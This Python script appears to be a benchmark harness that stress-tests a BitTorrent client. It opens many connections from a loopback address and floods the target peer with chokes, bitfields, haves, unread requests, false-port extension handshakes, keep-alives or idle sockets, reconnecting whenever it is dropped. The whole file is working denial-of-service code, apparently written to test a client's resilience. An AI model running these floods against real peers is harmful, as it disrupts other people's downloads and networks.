"""Peers that send little and cost much: `ATTACK HOST PORT TORRENT`, until it is killed.

Twenty connections (500 for `idle`), each opened again when the victim closes it. Prints a line when all are open.

chokes      unchoke and choke in turn, as fast as they are read
bitfields   a bitfield again and again
haves       every piece again and again
requests    the first chunk, asked for again and again, and nothing is read
ports       extension handshakes with a false listen port each
keep-alives nothing but messages of no length
idle        nothing after the handshake
"""

import os
import socket
import struct
import sys
import threading
import time

from torrent_file import info_of

# Another network than that of the honest, with a high priority (BEP 40) beside it.
FROM = "127.0.129.1"
CONNECTIONS = {"idle": 500}
FEW = 20
# Batches of messages, about as large as what a socket takes at once.
BATCH = 64 << 10
CHOKE, UNCHOKE, INTERESTED, HAVE, BITFIELD, REQUEST, EXTENDED = 0, 1, 2, 4, 5, 6, 20


def message(kind, body=b""):
    return struct.pack(">IB", 1 + len(body), kind) + body


def hello(port):
    return message(EXTENDED, b"\0" + f"d1:md11:ut_metadatai2ee1:pi{port}ee".encode())


def batches(attack, pieces):
    """What a connection sends: one beginning, then batches without an end."""
    field = bytes([0xFF] * (pieces // 8)) + (bytes([0xFF << 8 - pieces % 8 & 0xFF]) if pieces % 8 else b"")

    def again(part):
        return [part * (BATCH // len(part) + 1)]

    if attack == "chokes":
        return message(INTERESTED), again(message(UNCHOKE) + message(CHOKE))
    if attack == "bitfields":
        return b"", again(message(BITFIELD, field))
    if attack == "haves":
        return b"", again(b"".join(message(HAVE, struct.pack(">I", piece)) for piece in range(pieces)))
    if attack == "requests":
        return message(INTERESTED), again(message(REQUEST, struct.pack(">III", 0, 0, 1 << 14)))
    if attack == "ports":
        return b"", [b"".join(hello(1024 + (number * 37 + part) % 60000) for part in range(50)) for number in range(40)]
    if attack == "keep-alives":
        return b"", again(bytes(4))
    return b"", []


def attack_with(address, info_hash, beginning, parts, opened):
    first = True
    while True:
        try:
            with socket.create_connection(address, timeout=10, source_address=(FROM, 0)) as connection:
                reserved = bytes([0, 0, 0, 0, 0, 0x10, 0, 0])
                connection.sendall(b"\x13BitTorrent protocol" + reserved + info_hash + b"-BENCH0-" + os.urandom(12))
                connection.settimeout(600)
                connection.sendall(beginning)
                if first:
                    first = False
                    opened.release()
                while parts:
                    for part in parts:
                        connection.sendall(part)
                # Nothing more to send: until the other side hangs up.
                while connection.recv(1 << 16):
                    pass
        except OSError:
            if first:
                first = False
                opened.release()
        # It was closed. A real attacker comes again, too, and no faster than this.
        time.sleep(0.1)


def main():
    attack, host, port, torrent = sys.argv[1:]
    info_hash, pieces, _ = info_of(torrent)
    beginning, parts = batches(attack, pieces)
    opened, count = threading.Semaphore(0), CONNECTIONS.get(attack, FEW)
    for _ in range(count):
        threading.Thread(target=attack_with, args=((host, int(port)), info_hash, beginning, parts, opened), daemon=True).start()
    for _ in range(count):
        opened.acquire()
    print("open", flush=True)
    threading.Event().wait()


main()
